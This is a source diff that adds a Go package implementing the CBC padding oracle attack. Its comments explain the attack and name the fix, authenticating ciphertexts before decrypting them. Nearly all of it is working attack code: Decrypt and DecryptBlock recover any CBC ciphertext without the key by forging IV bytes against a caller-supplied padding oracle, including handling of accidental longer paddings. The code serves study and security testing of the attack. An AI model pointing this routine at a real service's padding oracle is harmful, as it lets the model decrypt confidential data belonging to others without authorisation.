@@ -0,0 +1,103 @@
+// Package paddingoracle implements the CBC padding oracle attack of
+// Vaudenay. A server that decrypts attacker supplied CBC ciphertexts and
+// reveals, through an error message, a status code or its timing, whether
+// the PKCS#7 padding was valid lets an attacker decrypt any ciphertext
+// without the key, in at most 256 queries per byte.
+//
+// In CBC mode a plaintext block is D(C_i) xor C_{i-1}. Flipping bits of the
+// previous block flips the same bits of the plaintext, so the attacker
+// tweaks the last byte of a forged previous block until the padding is
+// valid, which reveals that byte of D(C_i), then moves on to the next byte
+// with a longer padding. The fix is to authenticate ciphertexts before
+// decrypting them.
+package paddingoracle
+
+import (
+	"errors"
+	"fmt"
+)
+
+// Decrypt recovers the plaintext of ct, encrypted in CBC mode with iv,
+// using only the padding oracle. The oracle is given an IV followed by a
+// ciphertext and returns true when it decrypts to a correctly padded
+// plaintext. The block size is the size of iv. The padding is removed from
+// the returned plaintext.
+func Decrypt(oracle func([]byte) bool, iv, ct []byte) ([]byte, error) {
+	blockSize := len(iv)
+	if blockSize == 0 || blockSize > 255 {
+		return nil, fmt.Errorf("paddingoracle: invalid block size %d", blockSize)
+	}
+	if len(ct) == 0 || len(ct)%blockSize != 0 {
+		return nil, errors.New("paddingoracle: ciphertext is not a multiple of the block size")
+	}
+	plaintext := make([]byte, 0, len(ct))
+	prev := iv
+	for i := 0; i < len(ct); i += blockSize {
+		block := ct[i : i+blockSize]
+		intermediate, err := DecryptBlock(oracle, block)
+		if err != nil {
+			return nil, fmt.Errorf("paddingoracle: block %d: %v", i/blockSize, err)
+		}
+		for j := range intermediate {
+			plaintext = append(plaintext, intermediate[j]^prev[j])
+		}
+		prev = block
+	}
+	return unpad(plaintext, blockSize)
+}
+
+// DecryptBlock returns the raw block cipher decryption D(block), before
+// the xor with the previous block, using the padding oracle
+func DecryptBlock(oracle func([]byte) bool, block []byte) ([]byte, error) {
+	blockSize := len(block)
+	intermediate := make([]byte, blockSize)
+	// msg is a forged IV followed by the target block
+	msg := make([]byte, 2*blockSize)
+	copy(msg[blockSize:], block)
+	forged := msg[:blockSize]
+	for pos := blockSize - 1; pos >= 0; pos-- {
+		padding := byte(blockSize - pos)
+		// the bytes already found decrypt to the new padding value
+		for j := pos + 1; j < blockSize; j++ {
+			forged[j] = intermediate[j] ^ padding
+		}
+		found := false
+		for guess := 0; guess < 256; guess++ {
+			forged[pos] = byte(guess)
+			if !oracle(msg) {
+				continue
+			}
+			if pos == blockSize-1 && pos > 0 {
+				// the last byte may have hit a longer padding such as
+				// 02 02, changing the byte before it tells them apart
+				forged[pos-1] ^= 0xff
+				ok := oracle(msg)
+				forged[pos-1] ^= 0xff
+				if !ok {
+					continue
+				}
+			}
+			intermediate[pos] = byte(guess) ^ padding
+			found = true
+			break
+		}
+		if !found {
+			return nil, fmt.Errorf("oracle rejected all 256 values of byte %d", pos)
+		}
+	}
+	return intermediate, nil
+}
+
+// unpad removes the PKCS#7 padding of buf
+func unpad(buf []byte, blockSize int) ([]byte, error) {
+	n := int(buf[len(buf)-1])
+	if n == 0 || n > blockSize || n > len(buf) {
+		return nil, errors.New("paddingoracle: recovered plaintext has an invalid padding, is the oracle lying?")
+	}
+	for _, b := range buf[len(buf)-n:] {
+		if int(b) != n {
+			return nil, errors.New("paddingoracle: recovered plaintext has an invalid padding, is the oracle lying?")
+		}
+	}
+	return buf[:len(buf)-n], nil
+}